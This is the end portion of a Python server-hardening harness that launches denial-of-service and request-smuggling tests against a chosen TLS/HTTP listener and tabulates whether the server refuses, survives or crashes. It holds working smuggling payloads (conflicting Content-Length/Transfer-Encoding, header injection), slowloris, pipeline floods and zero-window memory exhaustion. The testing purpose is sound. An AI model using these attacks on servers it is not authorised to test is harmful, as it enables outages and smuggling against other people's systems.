        r = subprocess.run(["sh", "-c", script], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                           stderr=subprocess.STDOUT, timeout=15)
        out = r.stdout.decode(errors="replace")
    except subprocess.TimeoutExpired as ex:
        out = (ex.stdout or b"").decode(errors="replace")
    return renegotiation_verdict(out)


def renegotiation_verdict(out):
    if "RENEGOTIATING" not in out:
        return "n/a", "s_client did not try (no TLS 1.2 session?)"
    after = out.split("RENEGOTIATING", 1)[1]
    if "no renegotiation" in after or "alert" in after.lower() or "errno" in after:
        why = "no_renegotiation alert" if "no renegotiation" in after else "error/alert"
        return "refused", "TLS 1.2 'R' -> %s" % why
    if "HTTP/1.1 200" in after or "verify return:1" in after:
        return "ACCEPTED", "TLS 1.2 'R' -> renegotiated, request answered"
    return "refused", "TLS 1.2 'R' -> connection ended, no answer after it"


# -- HTTP/1.1 -------------------------------------------------------------

def h1_exchange(t, data, read_for=4.0, after_write=None, want=None):
    """Sends `data` (bytes) on a fresh mTLS connection with ALPN http/1.1 and reads
    until the server closes, `read_for` seconds pass, or (with `want`) that many
    complete responses arrived. Returns (responses
    [(status, headers dict, body)], closed_by_server, raw bytes)."""
    s = t.tls(("http/1.1",), timeout=5.0)
    try:
        if s.selected_alpn_protocol() not in (None, "http/1.1"):
            raise ConnectionError("ALPN http/1.1 not negotiated")
        try:
            s.sendall(data)
            if after_write:
                after_write(s)
        except (OSError, ssl.SSLError):
            pass
        raw = bytearray()
        closed = False
        deadline = time.monotonic() + read_for
        while time.monotonic() < deadline:
            s.settimeout(max(0.05, deadline - time.monotonic()))
            try:
                chunk = s.recv(65536)
            except socket.timeout:
                break
            except (OSError, ssl.SSLError):
                closed = True
                break
            if not chunk:
                closed = True
                break
            raw += chunk
            if want is not None and raw.count(b"HTTP/1.1 ") >= want \
                    and len(parse_h1_responses(bytes(raw))) >= want:
                break
        return parse_h1_responses(bytes(raw)), closed, bytes(raw)
    finally:
        s.close()


def parse_h1_responses(raw):
    """Splits a byte stream into HTTP/1.1 responses (Content-Length or chunked bodies)."""
    out = []
    pos = 0
    while True:
        end = raw.find(b"\r\n\r\n", pos)
        if end < 0:
            break
        head = raw[pos:end].decode("latin-1").split("\r\n")
        try:
            status = int(head[0].split()[1])
        except (IndexError, ValueError):
            break
        hdrs = {}
        for ln in head[1:]:
            if ":" in ln:
                k, v = ln.split(":", 1)
                hdrs[k.strip().lower()] = v.strip()
        pos = end + 4
        if "content-length" in hdrs:
            n = int(hdrs["content-length"])
            if len(raw) - pos < n:
                break  # incomplete: not counted
            out.append((status, hdrs, raw[pos:pos + n]))
            pos += n
        elif hdrs.get("transfer-encoding", "").lower() == "chunked":
            body = bytearray()
            while True:
                le = raw.find(b"\r\n", pos)
                if le < 0:
                    break
                try:
                    n = int(raw[pos:le].split(b";")[0], 16)
                except ValueError:
                    break
                pos = le + 2
                if n == 0:
                    te = raw.find(b"\r\n\r\n", pos - 2)
                    pos = te + 4 if te >= 0 else len(raw)
                    break
                body += raw[pos:pos + n]
                pos += n + 2
            out.append((status, hdrs, bytes(body)))
        else:
            out.append((status, hdrs, b""))
            if status not in (204, 304) and not (100 <= status < 200):
                break
    return out


def smuggling_cases(path="/", host="localhost"):
    """(name, raw request bytes, acceptable statuses). Each must be refused (and the
    connection closed) without anything reaching the upstream."""
    H = "Host: %s\r\n" % host
    P = path
    return [
        ("cl_and_te", "POST %s HTTP/1.1\r\n%sContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG" % (P, H), (400,)),
        ("te_and_cl", "POST %s HTTP/1.1\r\n%sTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\nGPOST / HTTP/1.1\r\n\r\n0\r\n\r\n" % (P, H), (400,)),
        ("duplicate_cl", "POST %s HTTP/1.1\r\n%sContent-Length: 3\r\nContent-Length: 5\r\n\r\nabcde" % (P, H), (400,)),
        ("cl_list", "POST %s HTTP/1.1\r\n%sContent-Length: 3, 5\r\n\r\nabcde" % (P, H), (400,)),
        ("te_chunked_identity", "POST %s HTTP/1.1\r\n%sTransfer-Encoding: chunked, identity\r\n\r\n3\r\nabc\r\n0\r\n\r\n" % (P, H), (400, 501)),
        ("te_identity_chunked", "POST %s HTTP/1.1\r\n%sTransfer-Encoding: identity, chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n" % (P, H), (400, 501)),
        ("te_obfuscated", "POST %s HTTP/1.1\r\n%sTransfer-Encoding: xchunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n" % (P, H), (400, 501)),
        ("te_http10", "POST %s HTTP/1.0\r\n%sTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n" % (P, H), (400,)),
        ("bad_chunk_size", "POST %s HTTP/1.1\r\n%sTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n" % (P, H), (400,)),
        ("chunk_size_overflow", "POST %s HTTP/1.1\r\n%sTransfer-Encoding: chunked\r\n\r\n10000000000000003\r\nabc\r\n0\r\n\r\n" % (P, H), (400, 413)),
        ("chunk_size_negative", "POST %s HTTP/1.1\r\n%sTransfer-Encoding: chunked\r\n\r\n-3\r\nabc\r\n0\r\n\r\n" % (P, H), (400,)),
        ("obs_fold", "GET %s HTTP/1.1\r\n%sX-A: a\r\n b\r\n\r\n" % (P, H), (400,)),
        ("space_before_colon", "POST %s HTTP/1.1\r\n%sContent-Length : 5\r\n\r\nabcde" % (P, H), (400,)),
        ("space_in_name", "GET %s HTTP/1.1\r\n%sX Bad: 1\r\n\r\n" % (P, H), (400,)),
        ("bare_lf", ("GET %s HTTP/1.1\n%s\n" % (P, H.replace("\r\n", "\n"))), (400,)),
        ("bare_cr", "GET %s HTTP/1.1\r\n%sX-A: a\rb\r\n\r\n" % (P, H), (400,)),
        ("nul_in_header", "GET %s HTTP/1.1\r\n%sX-A: a\x00b\r\n\r\n" % (P, H), (400,)),
        ("absolute_form", "GET http://evil.example%s HTTP/1.1\r\n%s\r\n" % (P, H), (400,)),
        ("no_host", "GET %s HTTP/1.1\r\n\r\n" % P, (400,)),
        ("two_hosts", "GET %s HTTP/1.1\r\n%sHost: evil.example\r\n\r\n" % (P, H), (400,)),
        ("http_0_9_version", "GET %s HTTP/1.2\r\n%s\r\n" % (P, H), (400, 505)),
    ]


def h1_case_verdict(resps, closed, ok_statuses):
    if not resps:
        return ("refused" if closed else "survived"), "no answer, %s" % ("closed" if closed else "still open")
    st = resps[0][0]
    tail = ", closed" if closed else ", still open"
    if st in ok_statuses or (400 <= st < 500 and st not in (404,)):
        return ("refused" if closed else "survived"), "%d%s" % (st, tail)
    return "ACCEPTED", "%d%s" % (st, tail)


def h1_smuggle(t, opts, case):
    name, req, ok = case
    resps, closed, _ = h1_exchange(t, req.encode("latin-1"), read_for=3.0)
    return h1_case_verdict(resps, closed, ok)


def h1_long_request_line(t, opts, n=100000):
    resps, closed, _ = h1_exchange(t, ("GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n" % ("a" * n, t.servername)).encode(),
                                   read_for=3.0)
    v, d = h1_case_verdict(resps, closed, (400, 414, 431))
    return v, "%d-byte request line -> %s" % (n, d)


def h1_large_headers(t, opts, count=200, size=1000):
    req = "GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (
        opts.path, t.servername, "".join("X-Big-%03d: %s\r\n" % (i, "v" * size) for i in range(count)))
    resps, closed, _ = h1_exchange(t, req.encode(), read_for=3.0)
    v, d = h1_case_verdict(resps, closed, (431, 400))
    return v, "%d bytes of headers -> %s" % (count * size, d)


def h1_slow_headers(t, opts, seconds=12.0):
    """Request headers trickled one byte every 0.5 s for up to `seconds`."""
    s = t.tls(("http/1.1",), timeout=5.0)
    t0 = time.monotonic()
    raw = bytearray()
    closed = False
    secs = None
    try:
        s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\n" % (opts.path, t.servername)).encode())
        s.settimeout(0.5)
        while time.monotonic() - t0 < seconds:
            try:
                chunk = s.recv(4096)
                if not chunk:
                    closed = True
                    break
                raw += chunk
                if b"\r\n\r\n" in raw:
                    secs = time.monotonic() - t0
                    s.settimeout(2.0)
                    try:
                        while True:
                            more = s.recv(4096)
                            if not more:
                                break
                            raw += more
                        closed = True
                    except (OSError, ssl.SSLError):
                        closed = True
                    break
            except socket.timeout:
                pass
            except (OSError, ssl.SSLError):
                closed = True
                break
            try:
                s.sendall(b"X")
            except (OSError, ssl.SSLError):
                closed = True
                break
    finally:
        s.close()
    if secs is None:
        secs = time.monotonic() - t0
    resps = parse_h1_responses(bytes(raw))
    st = resps[0][0] if resps else None
    if closed or st:
        return "ended", "1 byte/0.5s -> %s after %.1fs" % (
            "%d%s" % (st, " + close" if closed else " (still open)") if st else "close", secs)
    return "survived", "1 byte/0.5s -> still open after %.0fs" % secs


def h1_pipeline_flood(t, opts, n=1000):
    reqs = b"".join(("GET %s?i=%d HTTP/1.1\r\nHost: %s\r\n\r\n" % (opts.path, i, t.servername)).encode()
                    for i in range(n))
    resps, closed, _ = h1_exchange(t, reqs, read_for=8.0)
    n200 = sum(1 for r in resps if r[0] == 200)
    d = "%d requests in one write -> %d answered (%d x 200)%s" % (
        n, len(resps), n200, ", closed" if closed else "")
    if len(resps) == n:
        return "survived", d
    return ("ended" if closed else "survived"), d


def h2_zero_window_800(t, opts):
    """The memory-budget benchmark's attack (issue 14): 8 connections x 100 streams of
    --big-path, window 0, held 10 s."""
    return h2_zero_window(t, opts, conns=8, streams=100, hold=10.0)


def _normal_clients(t, opts, stop, out, nthreads=4):
    """Well-behaved clients: each thread makes fresh mTLS h2 GETs of --path in a loop
    until stop is set; out gets (ok, latency ms) per request."""
    def run():
        while not stop.is_set():
            t0 = time.monotonic()
            st = h2_get(t, opts.path, timeout=3.0)
            out.append((st == 200, (time.monotonic() - t0) * 1000.0))
    ths = [threading.Thread(target=run, daemon=True) for _ in range(nthreads)]
    for th in ths:
        th.start()
    return ths


def memory_mix(t, opts, hold=10.0):
    """The memory-budget benchmark's mix: the 8 x 100 zero-window readers, 100 idle TCP
    connections and 20 HTTP/1.1 clients trickling headers (slowloris), and 4 normal
    clients making GETs of --path all along; the detail gives the normal clients'
    success and p99."""
    stop = threading.Event()
    normal = []
    socks, slow = [], []
    ths = _normal_clients(t, opts, stop, normal)
    zw = {}

    def zero_window():
        zw["r"] = h2_zero_window(t, opts, conns=8, streams=100, hold=hold)
    zt = threading.Thread(target=zero_window, daemon=True)
    zt.start()
    try:
        for _ in range(100):
            try:
                socks.append(t.tcp())
            except OSError:
                break
        for _ in range(20):
            try:
                s = t.tls(("http/1.1",), timeout=5.0)
                s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\n" % (opts.path, t.servername)).encode())
                slow.append(s)
            except (OSError, ssl.SSLError):
                break
        deadline = time.monotonic() + hold
        while time.monotonic() < deadline:
            for s in list(slow):
                try:
                    s.sendall(b"X")
                except (OSError, ssl.SSLError):
                    slow.remove(s)
            time.sleep(0.5)
        zt.join(hold + 30)
    finally:
        stop.set()
        for th in ths:
            th.join(10)
        for s in socks + slow:
            try:
                s.close()
            except OSError:
                pass
    lat = sorted(ms for ok, ms in normal if ok)
    ok = sum(1 for k, _ in normal if k)
    p99 = lat[min(len(lat) - 1, int(len(lat) * 0.99))] if lat else None
    d = "zero-window 8x100 + 100 idle TCP + 20 h1 slowloris; normal clients %d/%d ok, p99 %s; %s" % (
        ok, len(normal), "-" if p99 is None else "%.0f ms" % p99, zw.get("r", ("?", "zero-window: no result"))[1])
    return ("survived" if ok == len(normal) and normal else "degraded"), d


ATTACKS = [
    ("h2_rapid_reset", h2_rapid_reset),
    ("h2_continuation_flood", h2_continuation_flood),
    ("h2_hpack_bomb", h2_hpack_bomb),
    ("h2_large_headers", h2_large_headers),
    ("h2_stream_flood", h2_stream_flood),
    ("h2_settings_flood", h2_settings_flood),
    ("h2_ping_flood", h2_ping_flood),
    ("h2_window_update_flood", h2_window_update_flood),
    ("h2_priority_flood", h2_priority_flood),
    ("h2_zero_window", h2_zero_window),
    ("tls_slowloris", tls_slowloris),
    ("tls_partial_hello", tls_partial_hello),
    ("tls_1_0_only", tls_v1_0),
    ("tls_1_1_only", tls_v1_1),
    ("tls_non_aead", tls_non_aead),
    ("tls_renegotiation", tls_renegotiation),
    ("h1_long_request_line", h1_long_request_line),
    ("h1_large_headers", h1_large_headers),
    ("h1_slow_headers", h1_slow_headers),
    ("h1_pipeline_flood", h1_pipeline_flood),
    ("h2_zero_window_800", h2_zero_window_800),
    ("h2_hpack_bomb_64k", h2_hpack_bomb_64k),
    ("memory_mix", memory_mix),
]


def all_attacks(opts):
    out = list(ATTACKS)
    for case in smuggling_cases(opts.path, opts.servername):
        out.append(("h1_" + case[0], (lambda c: lambda t, o: h1_smuggle(t, o, c))(case)))
    return out


# --------------------------------------------------------------------------

def fmt_kib(k):
    if k is None:
        return "-"
    return "%+.1f MiB" % (k / 1024.0)


def run_all(opts):
    host, port = opts.target.rsplit(":", 1)
    t = Target(host, int(port), opts.cert, opts.key, opts.ca, opts.servername)
    pids = [int(p) for p in opts.pid.split(",")] if opts.pid else []
    only = set(opts.only.split(",")) if opts.only else None
    rows = []
    for name, fn in all_attacks(opts):
        if only and name not in only:
            continue
        meter = Meter(pids)
        probe = Probe(t, opts.path)
        time.sleep(0.3)  # the probe is running before the attack starts
        t0 = time.monotonic()
        try:
            verdict, detail = fn(t, opts)
        except Exception as e:  # noqa: BLE001 - a broken attack is a row, not a crash
            verdict, detail = "error", "%s: %s" % (type(e).__name__, e)
        dur = time.monotonic() - t0
        time.sleep(0.3)
        ok, total, p99 = probe.stop()
        growth, cpu, is_alive = meter.stop()
        after = h2_get(t, opts.path, timeout=3.0)
        if is_alive is False or after != 200:
            detail += "; after: %s" % ("process gone" if is_alive is False else "GET -> %s" % (after or "no answer"))
            verdict = "crashed"
        row = {"attack": name, "verdict": verdict, "detail": detail, "seconds": round(dur, 1),
               "rss_growth_kib": growth, "cpu_s": None if cpu is None else round(cpu, 2),
               "probe_ok": ok, "probe_total": total, "probe_p99_ms": None if p99 is None else round(p99, 1)}
        rows.append(row)
        sys.stderr.write("%-26s %-9s %s\n" % (name, verdict, detail))
        sys.stderr.flush()
        time.sleep(opts.pause)
    return rows


def print_table(rows, out=sys.stdout):
    hdr = ("attack", "verdict", "detail", "RSS growth", "CPU s", "probe ok", "probe p99")
    body = []
    for r in rows:
        body.append((r["attack"], r["verdict"], r["detail"], fmt_kib(r["rss_growth_kib"]),
                     "-" if r["cpu_s"] is None else "%.2f" % r["cpu_s"],
                     "%d/%d" % (r["probe_ok"], r["probe_total"]),
                     "-" if r["probe_p99_ms"] is None else "%.0f ms" % r["probe_p99_ms"]))
    w = [max(len(str(x[i])) for x in [hdr] + body) for i in range(len(hdr))]
    line = lambda cols: "| " + " | ".join(str(c).ljust(w[i]) for i, c in enumerate(cols)) + " |"  # noqa: E731
    out.write(line(hdr) + "\n")
    out.write("|" + "|".join("-" * (x + 2) for x in w) + "|\n")
    for b in body:
        out.write(line(b) + "\n")
    out.flush()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--target", required=True, help="HOST:PORT of the TLS listener")
    ap.add_argument("--cert", required=True)
    ap.add_argument("--key", required=True)
    ap.add_argument("--ca", required=True)
    ap.add_argument("--pid", help="PID[,PID...] of the target (RSS and CPU from /proc, with descendants)")
    ap.add_argument("--servername", default="localhost", help="SNI and Host/:authority (localhost)")
    ap.add_argument("--path", default="/", help="a path answered 200 quickly (/)")
    ap.add_argument("--slow-path", default="/slow/2000", help="a path answered after ~2 s (/slow/2000)")
    ap.add_argument("--big-path", default="/bytes/1073741824", help="a large download (/bytes/1073741824)")
    ap.add_argument("--only", help="comma-separated attack names")
    ap.add_argument("--pause", type=float, default=0.5, help="seconds between attacks (0.5)")
    ap.add_argument("--json", help="also write the rows as JSON to this file")
    ap.add_argument("--list", action="store_true", help="list attack names and exit")
    ap.add_argument("--probe-worker", action="store_true", help=argparse.SUPPRESS)
    ap.add_argument("--interval", type=float, default=0.1, help=argparse.SUPPRESS)
    opts = ap.parse_args(argv)
    if opts.list:
        for name, _ in all_attacks(opts):
            print(name)
        return 0
    host, port = opts.target.rsplit(":", 1)
    if opts.probe_worker:
        import signal
        stop = threading.Event()
        signal.signal(signal.SIGTERM, lambda *a: stop.set())
        probe_loop(Target(host, int(port), opts.cert, opts.key, opts.ca, opts.servername),
                   opts.path, opts.interval, sys.stdout, stop)
        return 0
    t0 = time.time()
    rows = run_all(opts)
    print("# attacks.py against %s, %s, %.0f s" % (opts.target, time.strftime("%Y-%m-%d %H:%M:%S %Z"),
                                                    time.time() - t0))
    print_table(rows)
    if opts.json:
        with open(opts.json, "w") as f:
            json.dump(rows, f, indent=2)
    bad = [r for r in rows if r["verdict"] in ("crashed", "ACCEPTED")]
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
